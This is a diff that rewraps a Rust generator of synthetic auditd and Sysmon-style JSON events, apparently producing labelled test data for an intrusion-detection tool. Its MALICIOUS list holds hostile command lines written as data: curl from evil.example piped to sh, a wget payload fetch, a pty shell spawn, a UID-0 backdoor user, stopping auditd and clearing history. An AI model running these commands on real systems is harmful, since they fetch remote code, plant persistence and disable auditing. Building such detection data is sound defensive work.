@@ -56,7 +56,12 @@ const MALICIOUS: &[&[&str]] = &[
     &["/usr/bin/xclip", "-selection", "clipboard"],
     &["/usr/bin/touch", "-t", "202001010000", "/bin/ls"],
     &["/usr/bin/chattr", "-i", "/etc/passwd"],
-    &["/usr/bin/wget", "http://evil.example/x.sh", "-O", "/tmp/x.sh"],
+    &[
+        "/usr/bin/wget",
+        "http://evil.example/x.sh",
+        "-O",
+        "/tmp/x.sh",
+    ],
     &["/usr/bin/crontab", "-r"],
     &["/usr/sbin/useradd", "-o", "-u", "0", "backdoor"],
     &["/usr/bin/setfacl", "-m", "u:alice:rwx", "/etc/shadow"],
@@ -64,16 +69,37 @@ const MALICIOUS: &[&[&str]] = &[
     &["/usr/bin/history", "-c"],
     &["/usr/bin/uname", "-a"],
     &["/usr/bin/whoami"],
-    &["/usr/bin/python3", "-c", "import pty;pty.spawn('/bin/bash')"],
+    &[
+        "/usr/bin/python3",
+        "-c",
+        "import pty;pty.spawn('/bin/bash')",
+    ],
     &["/usr/bin/systemctl", "stop", "auditd"],
     &["/usr/bin/curl", "http://evil.example/a", "|", "sh"],
 ];
 
 const USERS: &[&str] = &["alice", "bob", "root", "deploy", "www-data"];
 const KEYS: &[&str] = &["exec", "identity", "logins", "network", "susp_activity"];
-const PARENTS: &[&str] = &["/usr/bin/bash", "/usr/bin/zsh", "/usr/sbin/sshd", "/usr/bin/python3", "/usr/lib/systemd/systemd"];
-const FILES: &[&str] = &["/home/alice/notes.txt", "/var/log/syslog", "/tmp/build.log", "/etc/hosts", "/var/www/html/index.html"];
-const HOSTS: &[&str] = &["api.example.com", "github.com", "deb.debian.org", "10.1.2.3"];
+const PARENTS: &[&str] = &[
+    "/usr/bin/bash",
+    "/usr/bin/zsh",
+    "/usr/sbin/sshd",
+    "/usr/bin/python3",
+    "/usr/lib/systemd/systemd",
+];
+const FILES: &[&str] = &[
+    "/home/alice/notes.txt",
+    "/var/log/syslog",
+    "/tmp/build.log",
+    "/etc/hosts",
+    "/var/www/html/index.html",
+];
+const HOSTS: &[&str] = &[
+    "api.example.com",
+    "github.com",
+    "deb.debian.org",
+    "10.1.2.3",
+];
 
 /// Writes `n` events, one JSON object per line, and returns how many were malicious.
 pub fn write_events(w: &mut impl Write, n: usize, seed: u64) -> std::io::Result<usize> {
@@ -102,7 +128,10 @@ pub fn write_events(w: &mut impl Write, n: usize, seed: u64) -> std::io::Result<
         match kind {
             // raw auditd EXECVE records merged with their SYSCALL record
             0..=4 => {
-                ev.insert("type".into(), s(if kind == 4 { "SYSCALL" } else { "EXECVE" }));
+                ev.insert(
+                    "type".into(),
+                    s(if kind == 4 { "SYSCALL" } else { "EXECVE" }),
+                );
                 ev.insert("syscall".into(), s("execve"));
                 ev.insert("success".into(), s("yes"));
                 ev.insert("exe".into(), s(exe));
@@ -122,7 +151,14 @@ pub fn write_events(w: &mut impl Write, n: usize, seed: u64) -> std::io::Result<
             5 => {
                 ev.insert("type".into(), s("PATH"));
                 ev.insert("name".into(), s(rng.pick(FILES)));
-                ev.insert("nametype".into(), s(if rng.below(2) == 0 { "NORMAL" } else { "CREATE" }));
+                ev.insert(
+                    "nametype".into(),
+                    s(if rng.below(2) == 0 {
+                        "NORMAL"
+                    } else {
+                        "CREATE"
+                    }),
+                );
                 ev.insert("inode".into(), s(&rng.below(1 << 20).to_string()));
                 ev.insert("mode".into(), s("0100644"));
                 ev.insert("key".into(), s(rng.pick(KEYS)));
@@ -144,7 +180,14 @@ pub fn write_events(w: &mut impl Write, n: usize, seed: u64) -> std::io::Result<
                 if rng.below(2) == 0 {
                     ev.insert("EventID".into(), s("11"));
                     ev.insert("Image".into(), s(exe));
-                    ev.insert("TargetFilename".into(), s(if malicious { "/etc/cron.d/evil" } else { rng.pick(FILES) }));
+                    ev.insert(
+                        "TargetFilename".into(),
+                        s(if malicious {
+                            "/etc/cron.d/evil"
+                        } else {
+                            rng.pick(FILES)
+                        }),
+                    );
                 } else {
                     ev.insert("EventID".into(), s("3"));
                     ev.insert("Image".into(), s(exe));
